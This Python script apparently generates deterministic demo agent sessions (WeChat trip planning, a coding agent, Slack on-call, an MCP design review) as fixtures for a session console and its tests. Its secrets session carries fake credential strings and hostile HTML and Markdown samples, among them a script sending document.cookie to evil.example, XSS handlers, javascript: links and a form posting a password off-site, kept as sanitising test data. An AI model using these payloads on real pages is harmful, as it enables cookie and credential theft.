"""Write the console's demo sessions into ``console/demo/sessions/``.

    .venv/bin/python console/demo/make_demo.py

The project owns this data: every message is written here, deterministically (seeded random numbers,
fixed timestamps), so running it again gives the same files byte for byte (tests/test_repository.py checks
that the committed files are what it writes). ``setup_demo`` loads them for ``make run`` and the tests read
them through ``tests/samples.py``; what a test relies on is noted in the docstring of the session holding
it. Secrets below are fakes in the shapes the masking recognises.
"""

from __future__ import annotations

import base64
import json
import random
import struct
import zlib
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

OUT = Path(__file__).resolve().parent / "sessions"

Message = dict[str, Any]


def call(call_id: str, name: str, **arguments: Any) -> dict[str, Any]:
    return {
        "id": call_id,
        "type": "function",
        "function": {"name": name, "arguments": json.dumps(arguments, ensure_ascii=False)},
    }


def calls(*tool_calls: dict[str, Any], content: str | None = None) -> Message:
    return {"role": "assistant", "content": content, "tool_calls": list(tool_calls)}


def tool(call_id: str, name: str, content: Any) -> Message:
    return {"role": "tool", "tool_call_id": call_id, "name": name, "content": content}


def user(content: Any) -> Message:
    return {"role": "user", "content": content}


def assistant(content: str) -> Message:
    return {"role": "assistant", "content": content}


def system(content: str) -> Message:
    return {"role": "system", "content": content}


class Clock:
    """Timestamps for echo-agent files: a message every few seconds to minutes."""

    def __init__(self, start: str, rng: random.Random) -> None:
        self.now = datetime.fromisoformat(start)
        self.rng = rng

    def stamp(self, message: Message, lo: int = 5, hi: int = 90) -> Message:
        self.now += timedelta(seconds=self.rng.randint(lo, hi))
        return {**message, "timestamp": self.now.isoformat(timespec="seconds")}


def jsonl(header: dict[str, Any], messages: list[Message]) -> str:
    """An echo-agent session file: its metadata line, then a message per line."""
    lines = [json.dumps({"_type": "metadata", **header}, ensure_ascii=False)]
    lines += [json.dumps(m, ensure_ascii=False) for m in messages]
    return "\n".join(lines) + "\n"


def json_array(messages: list[Message]) -> str:
    return json.dumps(messages, ensure_ascii=False, indent=1) + "\n"


# --------------------------------------------------------------------------- WeChat: a personal assistant in Chinese

MEETINGS = ["产品周会", "预算对齐", "招聘面试", "供应商沟通", "季度复盘", "一对一", "架构讨论", "客户回访"]
STATIONS = ["上海虹桥", "上海站", "上海南"]


def wechat_session() -> tuple[dict[str, Any], list[Message]]:
    """64 messages. Tests rely on: the constraint at #5 (verbatim, repeated in the last message), the
    KeyError at #13 and the assistant's hedge "疑似配置缺失" at #14, and enough tool output to compress."""
    rng = random.Random(1)
    clock = Clock("2026-11-28T09:00:00", rng)
    week = []
    for day, date in enumerate(["2026-12-01", "2026-12-02", "2026-12-03", "2026-12-04"]):
        for hour in (9, 10, 11, 14, 15, 16, 17):
            if rng.random() < 0.75:
                what = "方案评审会（勿动）" if (day, hour) == (1, 10) else rng.choice(MEETINGS)
                week.append(f"{date} {hour:02d}:00-{hour:02d}:45 {what} @ {rng.choice(['3F-青松', '5F-竹林', '线上'])}")
    trains = []
    for i in range(40):
        minute = 6 * 60 + i * 17
        number = 7300 + i
        trains.append(
            f"G{number} {rng.choice(STATIONS)} {minute // 60:02d}:{minute % 60:02d} → 杭州东 "
            f"用时 {45 + rng.randint(0, 30)} 分钟 二等座 {rng.choice(['有票', '余 12 张', '候补'])} ¥73"
        )
    hotels = []
    for i in range(30):
        hotels.append(
            f"{rng.choice(['湖滨', '北山', '南山', '龙井', '断桥', '武林'])}"
            f"{rng.choice(['花园', '雅居', '轻居', '国际'])}酒店："
            f"距西湖 {0.3 + 0.2 * i:.1f} 公里，{380 + 17 * i} 元/晚，评分 {3.8 + (i % 12) / 10:.1f}，"
            f"{rng.choice(['含早', '不含早', '可免费取消'])}"
        )
    messages: list[Message] = [
        system(
            "你是一个长期陪伴型个人助理，通过微信为用户服务。"
            "可用工具：calendar_list, calendar_move, web_search, read_file, exec, send_message。"
        ),
        user("帮我整理下周的出差行程：去杭州，周二出发，周四晚上回上海。"),
        assistant("好的，我先看一下你下周的日程。"),
        calls(call("call_001", "calendar_list", week="2026-W49")),
        tool("call_001", "calendar_list", "\n".join(week)),
        user("周三上午的评审会不要动，其他会议可以挪。"),  # the constraint the tests pin
        calls(call("call_002", "web_search", q="12月1日 上海 到 杭州东 高铁 时刻表")),
        tool("call_002", "web_search", "\n".join(trains)),
        assistant("建议坐周二 07:42 的 G7306，08:31 到杭州东，十点前能到客户公司。"),
        user("可以。酒店预算每晚不超过 600 元，离西湖近一点。"),
        calls(call("call_003", "web_search", q="西湖 附近 酒店 600元以内 12月1日-3日")),
        tool("call_003", "web_search", "\n".join(hotels)),
        calls(call("call_004", "exec", cmd="python scripts/expense.py --city hangzhou --budget 600 --nights 2")),
        tool(
            "call_004",
            "exec",
            "Traceback (most recent call last):\n"
            '  File "scripts/expense.py", line 14, in <module>\n'
            "    rate = RATES[city]\n"
            "KeyError: 'hangzhou'\n"
            "exit code 1",
        ),
        assistant("报销脚本 scripts/expense.py 里没有杭州的差旅标准，疑似配置缺失，不一定是代码缺陷。"),
    ]
    rounds = [
        ("看看 config/rates.yaml 里有哪些城市。", "read_file", {"path": "config/rates.yaml"}, "rates"),
        ("周二下午的会帮我挪到周五。", "calendar_move", {"from": "2026-12-01", "to": "2026-12-05"}, "move"),
        ("杭州那几天天气怎么样？", "web_search", {"q": "杭州 12月1日-3日 天气"}, "weather"),
        ("客户公司附近有什么适合请客的餐厅？", "web_search", {"q": "杭州 滨江 商务宴请 餐厅"}, "food"),
        ("还有别的选择吗？", "web_search", {"q": "杭州 滨江 杭帮菜 包间"}, "food"),
        (
            "周四回程的车次也查一下，晚上七点以后。",
            "web_search",
            {"q": "12月3日 杭州东 到 上海虹桥 19:00 以后"},
            "back",
        ),
        (
            "给小王发个消息，说周二的周会改到周五。",
            "send_message",
            {"to": "小王", "text": "周二的周会改到周五上午"},
            "sent",
        ),
        ("酒店离客户公司远不远？", "web_search", {"q": "湖滨花园酒店 到 滨江 打车 时间"}, "taxi"),
        ("继续", "web_search", {"q": "杭州 出差 打车 还是 地铁"}, "metro"),
        (
            "把报销脚本的错误日志再跑一遍看看。",
            "exec",
            {"cmd": "python scripts/expense.py --city shanghai --nights 2"},
            "ok",
        ),
        ("西湖边有什么晚上可以散步的地方？", "web_search", {"q": "西湖 夜景 散步 路线"}, "walk"),
        ("好的，先这样。", "calendar_list", {"week": "2026-W49"}, "calendar"),
    ]
    for number, (ask, name, args, kind) in enumerate(rounds, start=5):
        call_id = f"call_{number:03d}"
        messages += [user(ask), calls(call(call_id, name, **args)), tool(call_id, name, wechat_output(kind, rng))]
        messages.append(assistant(f"第 {number - 4} 项已处理：{wechat_reply(kind)}"))
    messages.append(user("把最终行程整理好发给我，记得周三上午的评审会不要动。"))
    assert len(messages) == 64, len(messages)
    header = {
        "key": "wechat:wxid_demo01",
        "created_at": "2026-11-28T09:00:00",
        "updated_at": "2026-11-28T10:40:00",
        "metadata": {"channel": "wechat", "nickname": "陈晓", "demo": True},
        "last_consolidated": 0,
        "status": "active",
    }
    return header, [clock.stamp(m) for m in messages]


def wechat_output(kind: str, rng: random.Random) -> str:
    if kind == "rates":
        cities = ["beijing: 650", "shanghai: 700", "shenzhen: 650", "guangzhou: 600", "chengdu: 500", "wuhan: 500"]
        return "# 差旅住宿标准（元/晚）\nRATES:\n" + "\n".join(f"  {c}" for c in cities) + "\n# 未包含 hangzhou"
    if kind == "move":
        return (
            "已移动 2 个日程：2026-12-01 14:00 产品周会 → 2026-12-05 10:00；2026-12-01 16:00 一对一 → 2026-12-05 14:00"
        )
    if kind == "weather":
        return "\n".join(
            f"2026-12-0{d} {rng.choice(['多云', '小雨', '晴', '阴'])} {rng.randint(4, 9)}~{rng.randint(11, 16)}℃ "
            f"湿度 {rng.randint(55, 90)}% 东北风 {rng.randint(1, 3)} 级"
            for d in (1, 2, 3)
        )
    if kind in {"food", "walk", "metro", "taxi"}:
        names = ["知味观", "外婆家", "新白鹿", "绿茶", "楼外楼", "湖畔居", "桂语山房", "弄堂里", "解香楼"]
        lines = []
        for i in range(rng.randint(18, 30)):
            lines.append(
                f"{i + 1}. {rng.choice(names)}（{rng.choice(['滨江', '西湖', '上城', '拱墅'])}店）"
                f" 人均 {rng.randint(60, 260)} 元 · 评分 {rng.randint(38, 49) / 10} · "
                f"距离 {rng.randint(3, 40) / 10} 公里 · {rng.choice(['有包间', '需排队', '可预订', '营业到 22:00'])}"
            )
        return "搜索结果：\n" + "\n".join(lines)
    if kind == "back":
        return "\n".join(
            f"G{7500 + i} 杭州东 {19 + i // 4}:{(i * 13) % 60:02d} → 上海虹桥 用时 {48 + i % 9} 分钟 ¥73"
            for i in range(16)
        )
    if kind == "sent":
        return "消息已发送给 小王（微信）"
    if kind == "ok":
        return "上海 2 晚住宿标准 1400 元\nexit code 0"
    return "\n".join(
        f"2026-12-0{d} {h:02d}:00 {rng.choice(MEETINGS)}" for d in (1, 2, 3, 4, 5) for h in (9, 11, 14, 16)
    )


def wechat_reply(kind: str) -> str:
    return {
        "rates": "费率表里确实没有杭州，需要找行政补上。",
        "move": "周二下午的两个会已挪到周五。",
        "weather": "那几天有小雨，记得带伞。",
        "food": "挑了三家有包间、人均两百以内的餐厅。",
        "back": "周四 19:00 以后有 16 趟车，建议 G7504。",
        "sent": "已通知小王。",
        "taxi": "打车约 25 分钟。",
        "metro": "地铁 1 号线转 4 号线约 40 分钟。",
        "ok": "上海的标准能算出来，说明只是杭州缺配置。",
        "walk": "推荐北山街到断桥一段。",
    }.get(kind, "日程已更新。")


# --------------------------------------------------------------------------- coding: parallel calls, long output


def export_module(rng: random.Random) -> str:
    """A plausible jobs/export_nightly.py, numbered like a read_file tool prints it."""
    lines = [
        '"""Nightly export of closed invoices to the data warehouse."""',
        "import logging",
        "import os",
        "",
        "from jobs.db import replica_cursor",
        "from jobs.sink import WarehouseSink",
        "",
        "BATCH = 50000",
        'EXPORT_SQL = "SELECT * FROM invoices WHERE closed_at >= %(since)s ORDER BY id LIMIT %(limit)s"',
        "log = logging.getLogger(__name__)",
        "",
    ]
    for i in range(36):
        name = rng.choice(["normalize", "validate", "enrich", "redact", "encode"])
        lines += [
            f"def {name}_{i}(row):",
            f'    """Step {i} of the row pipeline."""',
            f"    value = row.get('field_{i}')",
            "    if value is None:",
            "        return row",
            f"    row['field_{i}'] = {rng.choice(['str(value).strip()', 'int(value)', 'round(value, 2)'])}",
            "    return row",
            "",
        ]
    lines += [
        "def fetch_batch(cursor, size=BATCH):",
        "    cursor.execute(EXPORT_SQL, {'since': os.environ['SINCE'], 'limit': size})",
        "    return cursor.fetchall()",
        "",
        "def main():",
        "    sink = WarehouseSink.from_env()",
        "    with replica_cursor(statement_timeout='30s') as cursor:",
        "        while rows := fetch_batch(cursor):",
        "            sink.write(rows)",
        "            log.info('batch ok (%d rows)', len(rows))",
    ]
    return "\n".join(f"{n:4d}  {line}" for n, line in enumerate(lines, start=1))


def export_log(rng: random.Random) -> str:
    lines = []
    clock = datetime(2026, 11, 27, 2, 0, 0)
    for batch in range(160):
        clock += timedelta(seconds=rng.randint(9, 14))
        lines.append(
            f"{clock:%Y-%m-%d %H:%M:%S} INFO batch {batch} ok (50000 rows, {rng.randint(9, 29)}.{rng.randint(0, 9)}s)"
        )
    clock += timedelta(seconds=30)
    lines += [
        f"{clock:%Y-%m-%d %H:%M:%S} ERROR psycopg.errors.QueryCanceled: canceling statement due to statement timeout",
        f"{clock:%Y-%m-%d %H:%M:%S} INFO job exited with status 1",
        "exit code 1",
    ]
    return "\n".join(lines)


def dry_run(rng: random.Random, batches: int) -> str:
    lines = [f"batch {i} ok (5000 rows, {rng.randint(18, 26) / 10}s)" for i in range(batches)]
    return "\n".join(["dry run: writing to /tmp/export-dry-run, nothing is uploaded", *lines, "exit code 0"])


DRY_RUN_MIN, DRY_RUN_MAX = 30, 110


def coding_session() -> list[Message]:
    """41 messages. Tests rely on: the prohibition at #1 ("Do not change anything under infra/terraform."), the
    parallel calls at #3 with their long outputs (the QueryCanceled at the end of #5), the user's
    "Try BATCH=5000, but don't deploy; just run the job locally." at #7, and the repeated dry runs (the first
    two print the same output, so one is a duplicate)."""
    rng = random.Random(2)
    messages: list[Message] = [
        system("You are a coding agent. Tools: read_file, search_files, terminal, write_file."),
        user("The nightly export job crashes. Find out why. Do not change anything under infra/terraform."),
        assistant("I'll start by looking at the job's entry point and its recent logs."),
        calls(
            call("call_a1", "read_file", path="jobs/export_nightly.py"),
            call("call_a2", "terminal", cmd="tail -n 200 /var/log/export.log"),
        ),
        tool("call_a1", "read_file", export_module(rng)),
        tool("call_a2", "terminal", export_log(rng)),
        assistant(
            "The export fails with a statement timeout in fetch_batch. Likely cause: BATCH=50000 is too large "
            "for the 30s timeout on the replica."
        ),
        user("Agreed. Try BATCH=5000, but don't deploy; just run the job locally."),
        calls(
            call(
                "call_b1",
                "write_file",
                path="jobs/export_nightly.py",
                content=export_module(random.Random(2)).replace("BATCH = 50000", "BATCH = 5000")[:1900],
            )
        ),
        tool("call_b1", "write_file", "wrote 1 file"),
    ]
    output = ""
    for i in range(15):
        call_id = f"call_c{i}"
        # the second run repeats the first word for word (the agent re-ran it unchanged): a duplicate to prune
        if i != 1:
            output = dry_run(rng, 110 if i == 14 else rng.randint(DRY_RUN_MIN, DRY_RUN_MAX))
        messages += [
            calls(call(call_id, "terminal", cmd="python -m jobs.export_nightly --dry-run")),
            tool(call_id, "terminal", output),
        ]
    messages.append(user("Great. Summarize what we changed and what is left."))
    assert len(messages) == 41, len(messages)
    return messages


# --------------------------------------------------------------------------- a long on-call session (2,000+ messages)

SERVICES = ["checkout", "payments-api", "search", "inventory", "notifications", "auth", "ledger", "recommendations"]
# constraints the on-call lead gives along the way; the demo's drift story inverts the payments-db one
ONCALL_RULES = [
    "Do not restart payments-db during business hours.",
    "Never scale checkout below 3 replicas.",
    "Don't touch the ingress-nginx config without asking me first.",
    "不要删除任何 PVC，数据卷一律保留。",
    "Do not page the database team for anything below SEV-2.",
]


def oncall_session() -> tuple[dict[str, Any], list[Message]]:
    """About 2,400 messages over a week of on-call work in a Slack channel, with tool calls (some parallel);
    big enough that it is compressed several times as it grows, each summary updating the previous one."""
    rng = random.Random(3)
    clock = Clock("2026-11-23T08:00:00", rng)
    messages: list[Message] = [
        system(
            "You are the on-call assistant of the platform team, reached in Slack (#oncall). Tools: metrics_query, "
            "logs_search, kubectl, pagerduty, runbook_read."
        ),
        user("Morning. You're on call with me this week. Start by checking what paged overnight."),
        assistant("Morning! Two pages overnight; I'll go through them as you send the incidents."),
    ]
    rules = iter(ONCALL_RULES)
    incident = 0
    while len(messages) < 2_400:
        incident += 1
        service = rng.choice(SERVICES)
        if incident % 45 == 3:
            rule = next(rules, None)
            if rule:
                messages += [user(rule), assistant("Noted; I'll stick to that.")]
        messages.append(user(oncall_ask(service, incident, rng)))
        for step in range(rng.randint(2, 4)):
            ids = [f"call_{incident}_{step}_{n}" for n in range(1 if rng.random() < 0.7 else 2)]
            tools = [oncall_tool(service, rng) for _ in ids]
            messages.append(calls(*[call(i, name, **args) for i, (name, args) in zip(ids, tools, strict=True)]))
            for i, (name, _) in zip(ids, tools, strict=True):
                messages.append(tool(i, name, oncall_output(name, service, rng)))
        messages.append(assistant(oncall_finding(service, incident, rng)))
    messages.append(user("Hand over: summarize the open incidents and the rules I gave you this week."))
    stamped = [clock.stamp(m, 20, 600) for m in messages]
    header = {
        "key": "slack:oncall-platform",
        "created_at": "2026-11-23T08:00:00",
        "updated_at": clock.now.isoformat(timespec="seconds"),
        "metadata": {"channel": "slack", "workspace": "acme-demo", "channel_name": "#oncall", "demo": True},
        "last_consolidated": 0,
        "status": "active",
        "context_window_tokens": 32_000,
    }
    return header, stamped


def oncall_ask(service: str, incident: int, rng: random.Random) -> str:
    return rng.choice(
        [
            f"{service} p99 latency alert fired again (INC-{4100 + incident}). Can you look?",
            f"Error rate on {service} is above 2%. What's going on? (INC-{4100 + incident})",
            f"Someone says {service} is slow in eu-west-1. Check it please. INC-{4100 + incident}",
            f"INC-{4100 + incident}: {service} pods are crash-looping since the last deploy.",
        ]
    )


def oncall_tool(service: str, rng: random.Random) -> tuple[str, dict[str, Any]]:
    return rng.choice(
        [
            (
                "metrics_query",
                {"query": f'histogram_quantile(0.99, rate(http_duration_bucket{{svc="{service}"}}[5m]))'},
            ),
            ("logs_search", {"service": service, "query": "level:error", "last": "30m"}),
            ("kubectl", {"cmd": f"get pods -n {service} -o wide"}),
            ("kubectl", {"cmd": f"describe deploy/{service} -n {service}"}),
            ("runbook_read", {"path": f"runbooks/{service}.md"}),
        ]
    )


def oncall_output(name: str, service: str, rng: random.Random) -> str:
    if name == "metrics_query":
        return "\n".join(f"t-{m}m p99={rng.randint(120, 2400)}ms rps={rng.randint(200, 900)}" for m in range(0, 30, 3))
    if name == "logs_search":
        errors = [
            "upstream timeout after 5000ms",
            "connection reset by peer",
            "pool exhausted (size=50)",
            "503 from ledger",
        ]
        return "\n".join(
            f"2026-11-2{rng.randint(3, 9)}T{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}Z ERROR {service} "
            f"{rng.choice(errors)} trace={rng.getrandbits(48):012x}"
            for _ in range(rng.randint(4, 9))
        )
    if name == "runbook_read":
        return (
            f"# {service} runbook\n1. Check the dashboard.\n2. Look for a recent deploy.\n3. Roll back if errors > 2%."
        )
    pods = [
        f"{service}-{rng.getrandbits(32):08x}-{rng.getrandbits(20):05x}   1/1   "
        f"{rng.choice(['Running', 'Running', 'Running', 'CrashLoopBackOff'])}   "
        f"{rng.randint(0, 9)}   {rng.randint(1, 70)}h"
        for _ in range(rng.randint(3, 6))
    ]
    return "NAME   READY   STATUS   RESTARTS   AGE\n" + "\n".join(pods)


def oncall_finding(service: str, incident: int, rng: random.Random) -> str:
    return rng.choice(
        [
            f"INC-{4100 + incident}: {service} latency comes from the connection pool; I raised it from 50 to 80 "
            "and p99 is back under 400ms.",
            f"INC-{4100 + incident}: the last {service} deploy introduced the errors; rolled back, error rate 0.1%.",
            f"INC-{4100 + incident}: probably a noisy neighbour on node pool b; not confirmed, watching it.",
            f"INC-{4100 + incident}: {service} recovered by itself; I left a note in the incident.",
        ]
    )


# --------------------------------------------------------------------------- secrets and hostile HTML/Markdown

FAKE = {
    "openai": "sk-proj-DEMOdemo0000fakeKEYnotREAL1234",
    "github": "ghp_DEMOfake0000notARealToken1234abcd",
    "aws": "AKIADEMOFAKE0000KEYX",
    "slack": "xoxb-0000000000-DEMOfakeSlackToken",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJkZW1vLXVzZXIifQ.ZGVtby1zaWduYXR1cmUtbm90LXJlYWw",
    "db": "postgres://app:Demo-Passw0rd-Fake@db.staging.internal:5432/app",
}
PRIVATE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "DEMOxFAKExKEYxNOTxREALxDEMOxFAKExKEYxNOTxREALxDEMOxFAKExKEYxNOTxREALx==\n"
    "-----END OPENSSH PRIVATE KEY-----"
)
HOSTILE_HTML = """<!doctype html>
<html><head><title>Status</title>
<style>body{display:none}</style>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
</head>
<body onload="alert('body onload')">
<h1>All systems operational</h1>
<img src=x onerror="alert('img onerror')">
<a href="javascript:alert('link')">details</a>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert('svg')</script></svg>
<form action="https://evil.example/login"><input name=password></form>
</textarea></pre><script>alert('breakout')</script>
</body></html>"""
HOSTILE_MARKDOWN = """Here is the checklist, **please keep the formatting**:

1. [Open the runbook](javascript:alert(document.domain))
2. ![tracking pixel](https://tracker.example/p.gif?u=ops)
3. <b onmouseover="alert('bold')">hover me</b> and <img src=x onerror=alert(2)>
4. `<script>alert('in code')</script>` stays code
5. {{ settings.SECRET_KEY }} and {% debug %} are not templates here

| step | owner |
|---|---|
| <script>alert('cell')</script> | ops |

<details open><summary>raw HTML block</summary><iframe src="https://evil.example"></iframe></details>"""


def secrets_session() -> list[Message]:
    """A staging deploy debugged with secrets pasted in (an API key, GitHub, AWS, Slack and bearer tokens, a JWT,
    passwords in a URL and in Chinese, a private key) and tool output full of hostile HTML and Markdown."""
    rng = random.Random(4)
    env = "\n".join(
        [
            f"OPENAI_API_KEY={FAKE['openai']}",
            f"GITHUB_TOKEN={FAKE['github']}",
            f"AWS_ACCESS_KEY_ID={FAKE['aws']}",
            f"SLACK_BOT_TOKEN={FAKE['slack']}",
            f"DATABASE_URL={FAKE['db']}",
            'password="demo horse battery"',
        ]
    )
    messages: list[Message] = [
        system("You are a deployment assistant. Tools: read_file, terminal, web_fetch."),
        user(
            "Staging deploys fail with 401 from the registry since this morning. My .env is below. "
            "Never paste any of these keys into the ticket or the chat summary.\n\n```\n" + env + "\n```"
        ),
        assistant("I'll read the staging values and the registry proxy's log."),
        calls(
            call("call_s1", "read_file", path="deploy/values-staging.yaml"),
            call("call_s2", "terminal", cmd="kubectl -n staging logs deploy/registry-proxy --tail=80"),
        ),
        tool(
            "call_s1",
            "read_file",
            "registry:\n  url: https://registry.staging.internal\n"
            f"  auth: Bearer {FAKE['jwt']}\n"
            f"deployKey: |\n  " + PRIVATE_KEY.replace("\n", "\n  ") + "\n"
            "# 数据库密码：Demo密码123456\n",
        ),
        tool("call_s2", "terminal", registry_log(rng)),
        assistant(
            "The registry proxy rejects the token in deploy/values-staging.yaml: the JWT's signing key was rotated "
            "yesterday. I'd rotate the deploy token rather than reuse the old one."
        ),
        user("Check the registry status page first, maybe it's on their side."),
        calls(call("call_s3", "web_fetch", url="https://status.registry.example/")),
        tool("call_s3", "web_fetch", HOSTILE_HTML),
        assistant(
            "The status page says everything is operational (it also carries scripts I did not run). "
            "Rendered as text only."
        ),
        user(HOSTILE_MARKDOWN),
        assistant(
            "I'll keep it as plain text. Note that item 1 is a `javascript:` link and item 3 carries an inline "
            "handler; neither should be clicked."
        ),
    ]
    for i in range(16):
        call_id = f"call_t{i}"
        messages += [
            calls(
                call(
                    call_id,
                    "terminal",
                    cmd=f"curl -sv -H 'Authorization: Bearer {FAKE['jwt']}' https://registry.staging.internal/v2/",
                )
            ),
            tool(call_id, "terminal", curl_output(rng)),
        ]
    messages += [
        assistant(
            "Every retry gets 401 with the rotated key. Rotating the deploy token fixes it; the old one stays "
            f"revoked. (Slack bot {FAKE['slack']} is unaffected.)"
        ),
        user("OK, rotate it. And remember: no keys in the ticket."),
    ]
    return messages


def registry_log(rng: random.Random) -> str:
    lines = []
    for i in range(40):
        lines.append(
            f"2026-11-30T07:{i // 2:02d}:{rng.randint(0, 59):02d}Z WARN auth: token rejected "
            f"(kid=staging-2026-10, reason=signature) client=10.0.{rng.randint(0, 9)}.{rng.randint(2, 250)}"
        )
    lines.append(f"2026-11-30T07:45:10Z DEBUG retry with Authorization: Bearer {FAKE['jwt']}")
    return "\n".join(lines)


def curl_output(rng: random.Random) -> str:
    return "\n".join(
        [
            "*   Trying 10.0.3.17:443...",
            "* Connected to registry.staging.internal (10.0.3.17) port 443",
            "> GET /v2/ HTTP/1.1",
            f"> Authorization: Bearer {FAKE['jwt']}",
            "< HTTP/1.1 401 Unauthorized",
            '< Www-Authenticate: Bearer realm="https://registry.staging.internal/token",error="invalid_token"',
            *(f"< X-Request-Id: {rng.getrandbits(64):016x}" for _ in range(3)),
            '{"errors":[{"code":"UNAUTHORIZED","message":"<b>authentication required</b>","detail":null}]}',
            *(f"  retry {n}: 401" for n in range(rng.randint(3, 8))),
        ]
    )


# --------------------------------------------------------------------------- unknown (MCP) tools and multimodal parts


def tiny_png(width: int, height: int, rgb: tuple[int, int, int]) -> str:
    """A small solid-colour PNG as a data: URL (written here, so no binary file lives in the repository)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    png = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )
    return "data:image/png;base64," + base64.b64encode(png).decode()


def mcp_session() -> tuple[dict[str, Any], list[Message]]:
    """A design review over Discord: tools from MCP servers the console has never heard of (``mcp__figma__...``),
    user messages with image and audio parts, tool results given as lists of content parts."""
    rng = random.Random(5)
    clock = Clock("2026-11-29T14:00:00", rng)
    screenshot = tiny_png(8, 8, (52, 101, 164))
    messages: list[Message] = [
        system("You review UI changes. Tools come from the MCP servers figma, github and playwright."),
        user(
            [
                {
                    "type": "text",
                    "text": "Here's the new checkout header from my phone. Does it match the Figma frame?",
                },
                {"type": "image_url", "image_url": {"url": tiny_png(6, 4, (220, 80, 60)), "detail": "low"}},
            ]
        ),
        assistant("Let me pull the frame from Figma and look for an open issue about it."),
        calls(
            call("call_m1", "mcp__figma__get_file_nodes", file_key="DEMOfigmaKEY", node_ids=["12:34", "12:35"]),
            call("call_m2", "mcp__github__search_issues", q="repo:acme/shop checkout header is:open"),
        ),
        tool(
            "call_m1",
            "mcp__figma__get_file_nodes",
            [
                {"type": "text", "text": json.dumps(figma_nodes(rng), ensure_ascii=False, indent=1)},
            ],
        ),
        tool("call_m2", "mcp__github__search_issues", json.dumps(github_issues(rng), ensure_ascii=False, indent=1)),
        assistant(
            "The photo shows a 56px header; the Figma frame 12:34 specifies 64px with the logo left-aligned. "
            "Issue #481 already tracks the header height."
        ),
        user(
            [
                {"type": "text", "text": "Voice note from the designer attached. Please don't close #481 yourself."},
                {
                    "type": "input_audio",
                    "input_audio": {"data": base64.b64encode(b"DEMO-AUDIO" * 12).decode(), "format": "wav"},
                },
            ]
        ),
    ]
    for i in range(12):
        call_id = f"call_p{i}"
        url = f"https://staging.shop.example/checkout?variant={i}"
        messages += [
            calls(call(call_id, "mcp__playwright__browser_take_screenshot", url=url, full_page=i % 2 == 0)),
            tool(
                call_id,
                "mcp__playwright__browser_take_screenshot",
                [
                    {"type": "text", "text": f"Screenshot of {url} ({rng.choice([375, 414, 768, 1280])}px wide)"},
                    {"type": "image_url", "image_url": {"url": screenshot}},
                    {"type": "text", "text": accessibility_tree(rng)},
                ],
            ),
        ]
    messages += [
        calls(
            call(
                "call_m9",
                "mcp__github__add_issue_comment",
                repo="acme/shop",
                issue_number=481,
                body="Header is 56px on staging vs 64px in Figma 12:34 (8 viewports checked).",
            )
        ),
        tool("call_m9", "mcp__github__add_issue_comment", [{"type": "text", "text": "comment 1188 created on #481"}]),
        assistant("I commented on #481 with the measurements and left it open."),
        user("Thanks. What else differs from the frame?"),
    ]
    header = {
        "key": "discord:design-review",
        "created_at": "2026-11-29T14:00:00",
        "updated_at": "2026-11-29T15:10:00",
        "metadata": {"channel": "discord", "guild": "acme-demo", "demo": True},
        "last_consolidated": 0,
        "status": "active",
    }
    return header, [clock.stamp(m) for m in messages]


def figma_nodes(rng: random.Random) -> dict[str, Any]:
    return {
        "nodes": {
            "12:34": {
                "name": "Checkout / Header",
                "absoluteBoundingBox": {"x": 0, "y": 0, "width": 375, "height": 64},
                "children": [
                    {"name": f"layer {i}", "type": rng.choice(["TEXT", "FRAME", "VECTOR"]), "opacity": 1}
                    for i in range(24)
                ],
            }
        }
    }


def github_issues(rng: random.Random) -> dict[str, Any]:
    titles = [
        "Checkout header height differs from design",
        "Logo misaligned on small screens",
        "Sticky header flickers",
    ]
    return {
        "total_count": 3,
        "items": [
            {"number": 481 + i, "title": t, "state": "open", "labels": ["ui"], "body": "See Figma 12:34. " * 20}
            for i, t in enumerate(titles)
        ],
    }


def accessibility_tree(rng: random.Random) -> str:
    rows = [
        f'- {rng.choice(["button", "link", "heading", "img"])} "{rng.choice(["Cart", "Pay", "Logo", "Back"])}"'
        for _ in range(60)
    ]
    return "Accessibility snapshot:\n" + "\n".join(rows)


# --------------------------------------------------------------------------- main


def render() -> dict[str, str]:
    """{file name: text} of every demo session."""
    return {
        "wechat_wxid_demo01.jsonl": jsonl(*wechat_session()),
        "coding_export_job.json": json_array(coding_session()),
        "slack_oncall_platform.jsonl": jsonl(*oncall_session()),
        "secrets_and_html.json": json_array(secrets_session()),
        "discord_design_review.jsonl": jsonl(*mcp_session()),
    }


def main() -> None:
    OUT.mkdir(exist_ok=True)
    for name, text in render().items():
        (OUT / name).write_text(text, encoding="utf-8")
        print(f"{name}: {len(text.encode()):,} bytes")


if __name__ == "__main__":
    main()
